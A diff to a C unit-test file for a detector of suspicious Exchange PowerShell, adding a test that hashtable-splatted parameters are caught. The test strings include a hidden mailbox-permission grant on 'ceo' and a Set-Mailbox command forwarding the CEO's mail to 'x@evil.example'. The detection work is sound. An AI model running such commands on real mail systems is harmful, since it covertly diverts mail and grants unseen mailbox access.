@@ -219,6 +219,16 @@ static void test_call_and_parameter_may_lie_on_several_lines_but_not_apart(void 
     assert_false(forwarding_over(*state, 600));
 }
 
+static void test_parameters_in_a_hashtable_before_the_call_are_seen(void **state) {
+    assert_true(matches(*state, "mailbox_permission_unseen",
+                        "$p = @{ Identity = 'ceo'; AutoMapping = $false }\n"
+                        "Add-MailboxPermission @p"));
+    assert_true(matches(*state, "mailbox_forwarding_set",
+                        "$p=@{ForwardingSmtpAddress='x@evil.example'}; Set-Mailbox ceo @p"));
+    assert_false(matches(*state, "mailbox_permission_unseen",
+                         "$p = @{ AutoMapping = $true }; Add-MailboxPermission @p"));
+}
+
 /* Half a megabyte of beginnings without an end: what makes a net slow. */
 static void test_repeated_beginnings_do_not_run_out_of_time(void **state) {
     struct buf text = {0};
@@ -236,6 +246,7 @@ int main(void) {
         cmocka_unit_test(test_empty_text_matches_nothing),
         cmocka_unit_test(test_a_plain_name_beside_is_no_disguise),
         cmocka_unit_test(test_call_and_parameter_may_lie_on_several_lines_but_not_apart),
+        cmocka_unit_test(test_parameters_in_a_hashtable_before_the_call_are_seen),
         cmocka_unit_test(test_repeated_beginnings_do_not_run_out_of_time),
     };
     return cmocka_run_group_tests_name("rules: texts", tests, set_up, tear_down);
